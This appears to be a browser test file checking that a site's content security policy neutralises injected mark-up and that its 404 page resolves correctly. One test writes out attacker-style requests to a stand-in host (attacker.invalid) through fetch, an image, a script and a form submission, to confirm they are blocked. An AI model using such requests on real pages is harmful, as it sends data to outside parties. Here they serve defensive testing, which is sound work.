// The content security policy at work: mark-up that somebody got into a page does nothing, from the disk as from a server,
// while the page's own sheet and scripts do; the 404 page holds under any address of a site that has a base URL.
// That nothing of the site itself ever violates the policy is seen by every other file of this folder (`watched`).
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileBase, ok, test, until, watched } from './harness.mjs';
import { ATTACKS, effects, plant } from './planted.mjs';
import { serve } from './server.mjs';
import { begin } from './stage.mjs';

const { root, site, browser, end, richest } = await begin({ whole: true });

const DIRECTIVES = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'frame-src', 'base-uri', 'img-src'];

/** What a page has done, once it has done `all`, or has reported all that it should. */
async function attacked(address, all) {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
    });
    await page.goto(address);
    const state = async () => ({ ...await page.evaluate(effects), violations: await page.evaluate(() => window.violations) });
    await until(async () => { const { done, script, violations } = await state(); return script && all(done, violations); });
    return await state();
  } finally {
    await context.close();
  }
}

async function injected(base, names, label) {
  const guarded = await attacked(base + names.guarded, (_, violations) => DIRECTIVES.every((one) => violations.includes(one)));
  ok(guarded.done.length === 0, `${label}: what was planted does nothing`, guarded.done.join(', '));
  ok(guarded.sheet && guarded.script, `${label}: the page's own sheet and scripts work beside it`, JSON.stringify(guarded));
  for (const directive of DIRECTIVES) {
    ok(guarded.violations.includes(directive), `${label}: reported as ${directive}`, guarded.violations.join(' '));
  }
  const open = await attacked(base + names.open, (done) => done.length === ATTACKS);
  ok(open.done.length === ATTACKS && open.violations.length === 0, `${label}: without the policy all of it is done`, JSON.stringify(open));
}

/** What would leave the site: asked for by code that already runs, so only the policy stands in the way. */
async function leaving(base, names, label) {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const asked = [];
    await context.route(/attacker\.invalid/, (route) => { asked.push(route.request().url()); return route.abort(); });
    await page.goto(base + names.guarded);
    await page.evaluate(async () => {
      const told = (window.told = []);
      document.addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
      await fetch('https://attacker.invalid/fetched').catch(() => 0);
      new Image().src = 'https://attacker.invalid/picture';
      const script = document.createElement('script');
      script.src = 'https://attacker.invalid/script.js';
      document.head.append(script);
      const form = document.createElement('form');
      form.action = 'https://attacker.invalid/form';
      document.body.append(form);
      form.submit();
    });
    const reported = ['connect-src', 'img-src', 'script-src-elem', 'form-action'];
    await until(() => page.evaluate((all) => all.every((one) => window.told.includes(one)), reported));
    const outcome = await page.evaluate(() => window.told);
    ok(asked.length === 0, `${label}: no request leaves the site`, asked.join(' '));
    ok(reported.every((one) => outcome.includes(one)), `${label}: each is reported`, outcome.join(' '));
  } finally {
    await context.close();
  }
}

/** The watch that all other files keep must see a violation, wherever the page lies. */
async function seen(base, names, label) {
  const context = await browser.newContext();
  try {
    const { page, take } = await watched(context, base);
    await page.goto(base + names.guarded);
    const faults = [];
    const found = () => faults.some((fault) => fault.includes('policy violated: script-src-elem inline'));
    await until(() => { faults.push(...take()); return found(); });
    ok(found(), `${label}: a violation is a fault of the page`, faults.join('\n'));
  } finally {
    await context.close();
  }
}

/** The 404 page as a server shows it: under an address of any depth, its links from the base URL. */
async function lost() {
  const base = /(?:href|src)="?(https?:\/\/[^"> ]+\/)assets\//.exec(site.read('404.html'))?.[1];
  if (!base) return;
  const context = await browser.newContext();
  try {
    await context.route(`${base}**`, async (route) => {
      const name = decodeURIComponent(new URL(route.request().url()).href.slice(base.length).split(/[?#]/)[0]);
      const known = await readFile(join(root, name)).catch(() => null);
      return known ? route.fulfill({ path: join(root, name) }) : route.fulfill({ status: 404, path: join(root, '404.html') });
    });
    const { page, take } = await watched(context, base);
    await page.goto(`${base}zh-Hans/no/such/place.html`);
    const state = await page.evaluate(() => ({ sheet: getComputedStyle(document.querySelector('.skip')).position, links: [...document.querySelectorAll('main a')].map((node) => node.href) }));
    ok(state.sheet === 'absolute', '404: its sheet is found under any address', state.sheet);
    ok(state.links.length > 0 && state.links.every((href) => href.startsWith(base) && site.files.includes(href.slice(base.length))), '404: its links lead to pages', state.links.join(' '));
    const faults = take().filter((fault) => !/404/.test(fault));
    ok(faults.length === 0, '404: no fault', faults.join('\n'));
  } finally {
    await context.close();
  }
}

await end('policy', async () => {
  const names = plant(root, richest(site.scripts[0]));
  const server = await serve(names.folder);
  try {
    for (const [label, base] of [['file', fileBase(names.folder)], ['http', server.base]]) {
      await test(`${label}: injected`, () => injected(base, names, label));
      await test(`${label}: seen`, () => seen(base, names, label));
      await test(`${label}: leaving`, () => leaving(base, names, label));
    }
    await test('404', lost);
  } finally {
    server.close();
    names.remove();
  }
});
